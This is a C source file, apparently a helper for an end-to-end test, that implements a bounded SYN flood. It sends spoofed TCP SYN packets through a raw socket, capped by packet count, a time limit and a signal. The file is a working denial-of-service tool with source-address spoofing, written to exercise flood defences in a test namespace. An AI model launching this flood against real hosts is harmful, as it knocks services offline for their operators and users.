// SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
/*
 * A bounded SYN flood for the end-to-end test, run inside the test
 * network's client namespace: TCP SYNs to one VIP:port from spoofed
 * sources (a range of addresses on the client's own subnet, random ports),
 * through a raw socket. Bounded three ways: at most --count packets, at
 * most --seconds, and it stops at SIGTERM. Paced to --rate packets per
 * second. Prints one JSON line: {"sent":N,"seconds":S,"stoppedBy":"..."}.
 *
 *   syn-flood DST_IP DST_PORT SRC_BASE_IP SRC_ADDRESSES RATE COUNT SECONDS
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop_requested;

static void on_term(int sig)
{
	(void)sig;
	stop_requested = 1;
}

static uint16_t checksum(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;

	for (; len > 1; p += 2, len -= 2)
		sum += (uint32_t)p[0] << 8 | p[1];
	if (len)
		sum += (uint32_t)p[0] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* xorshift32: fast, and reproducible for one seed. */
static uint32_t next_random(uint32_t *state)
{
	uint32_t x = *state;

	x ^= x << 13;
	x ^= x >> 17;
	x ^= x << 5;
	return *state = x;
}

int main(int argc, char **argv)
{
	struct {
		struct iphdr ip;
		struct tcphdr tcp;
	} __attribute__((packed)) pkt;
	struct sockaddr_in dst = { .sin_family = AF_INET };
	struct in_addr src_base;
	long addresses, rate, count, seconds, sent = 0;
	uint32_t seed = 0x5eed1234;
	const char *stopped_by = "count";
	double started, deadline;
	int fd;

	if (argc != 8 || inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1 ||
	    inet_pton(AF_INET, argv[3], &src_base) != 1) {
		fprintf(stderr, "usage: syn-flood DST_IP DST_PORT SRC_BASE_IP SRC_ADDRESSES RATE COUNT SECONDS\n");
		return 2;
	}
	dst.sin_port = htons((uint16_t)atoi(argv[2]));
	addresses = atol(argv[4]);
	rate = atol(argv[5]);
	count = atol(argv[6]);
	seconds = atol(argv[7]);
	if (addresses < 1 || addresses > 65536 || rate < 1 || rate > 1000000 || count < 1 || seconds < 1 || seconds > 120) {
		fprintf(stderr, "syn-flood: SRC_ADDRESSES 1-65536, RATE 1-1000000, COUNT >= 1, SECONDS 1-120\n");
		return 2;
	}
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("syn-flood: socket(AF_INET, SOCK_RAW, IPPROTO_RAW) needs CAP_NET_RAW");
		return 1;
	}
	signal(SIGTERM, on_term);
	signal(SIGINT, on_term);

	started = now_s();
	deadline = started + seconds;
	while (sent < count) {
		uint32_t r = next_random(&seed);
		uint32_t src = ntohl(src_base.s_addr) + r % (uint32_t)addresses;
		uint8_t pseudo[12 + sizeof(pkt.tcp)];
		double due = started + (double)sent / rate, t = now_s();

		if (stop_requested) {
			stopped_by = "signal";
			break;
		}
		if (t >= deadline) {
			stopped_by = "time";
			break;
		}
		if (due > t) {
			struct timespec wait = { 0, (long)((due - t) * 1e9) };

			nanosleep(&wait, NULL);
		}
		memset(&pkt, 0, sizeof(pkt));
		pkt.ip.version = 4;
		pkt.ip.ihl = 5;
		pkt.ip.tot_len = htons(sizeof(pkt));
		pkt.ip.id = htons((uint16_t)r);
		pkt.ip.ttl = 64;
		pkt.ip.protocol = IPPROTO_TCP;
		pkt.ip.saddr = htonl(src);
		pkt.ip.daddr = dst.sin_addr.s_addr;
		pkt.ip.check = htons(checksum(&pkt.ip, sizeof(pkt.ip), 0));
		pkt.tcp.source = htons((uint16_t)(1024 + (next_random(&seed) % 64000)));
		pkt.tcp.dest = dst.sin_port;
		pkt.tcp.seq = htonl(next_random(&seed));
		pkt.tcp.doff = 5;
		pkt.tcp.syn = 1;
		pkt.tcp.window = htons(64240);
		memcpy(pseudo, &pkt.ip.saddr, 4);
		memcpy(pseudo + 4, &pkt.ip.daddr, 4);
		pseudo[8] = 0;
		pseudo[9] = IPPROTO_TCP;
		pseudo[10] = 0;
		pseudo[11] = sizeof(pkt.tcp);
		memcpy(pseudo + 12, &pkt.tcp, sizeof(pkt.tcp));
		pkt.tcp.check = htons(checksum(pseudo, sizeof(pseudo), 0));
		if (sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&dst, sizeof(dst)) < 0) {
			perror("syn-flood: sendto");
			return 1;
		}
		sent++;
	}
	printf("{\"sent\":%ld,\"seconds\":%.3f,\"stoppedBy\":\"%s\"}\n", sent, now_s() - started, stopped_by);
	close(fd);
	return 0;
}
